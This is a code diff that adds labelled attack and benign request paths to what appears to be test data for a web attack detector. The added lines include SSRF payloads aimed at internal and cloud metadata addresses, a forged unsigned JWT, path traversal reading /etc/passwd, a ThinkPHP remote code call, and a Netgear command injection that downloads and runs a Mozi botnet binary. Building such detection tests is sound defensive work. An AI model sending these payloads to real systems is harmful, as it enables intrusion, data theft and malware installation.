@@ -68,6 +68,11 @@ IN_PATH = [("backup", p) for p in [
         ("sqli", "/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85%27&cantidad=49&B1=A%F1adir+al+carrito"),
         ("xss", "/tienda1/publico/autenticar.jsp?modo=entrar&login=choong&pwd=d1se3ci%F3n&remember=bob%40%3CSCRipt%3Ealert%28Paros%29%3C%2FscrIPT%3E.parosproxy.org&B1=Entrar"),
         ("crlf", "/tienda1/publico/pagar.jsp?modo=insertar&precio=2672&B1=Pasar+por+caja%0D%0ASet-Cookie%3A+foo%3Dbar"),
+        ("ssrf", "/fetch?url=http://127.0.0.1.nip.io/admin"), ("ssrf", "/fetch?url=http://0x7f000001/"), ("ssrf", "/fetch?url=http://[::ffff:169.254.169.254]/latest/meta-data/"),
+        ("jwt", "/api/me?token=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9."), ("graphql", "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D"),
+        ("exploit", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"), ("exploit", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
+        ("exploit", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
+        ("exploit", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"),
         ("redirect", "/login?next=//evil.example/"), ("redirect", "/logout?redirect=%2F%5Cevil.example"), ("redirect", "/go?url=https:evil.example"),
     ]]
 
@@ -89,7 +94,8 @@ BENIGN = ["/search?q=" + urllib.parse.quote(q) for q in [
     "/p/12345", "/search/blue-shirt", "/user/o'neil", "/tag/c%2B%2B", "/wiki/Select_(SQL)", "/shop/login.jsp", "/shop/css/site.css?v=2", "/shop/docs/manual.pdf",
     "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100&cantidad=55&B1=A%F1adir+al+carrito",
     "/tienda1/publico/registro.jsp?modo=registro&login=ramon&password=M4r1n4&nombre=Ram%F3n&apellidos=Garc%EDa+L%F3pez&email=ramon%40example.com&ciudad=Madrid&B1=Registrar",
-    "/login?next=%2Faccount%2Forders", "/oauth/callback?code=4%2F0AX4&redirect_uri=https%3A%2F%2Fshop.example.jp%2Faccount"]
+    "/login?next=%2Faccount%2Forders", "/unsubscribe?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc",
+    "/graphql?query=%7Bproduct(id%3A12)%7Bname%20price%20__typename%7D%7D", "/share?url=https://blog.example.io/nip-and-tuck", "/oauth/callback?code=4%2F0AX4&redirect_uri=https%3A%2F%2Fshop.example.jp%2Faccount"]
 BENIGN_AGENTS = ["python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1", "Zapier",
                  "Mozilla/5.0 (Linux; Android 13; id-ID) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36"]
 
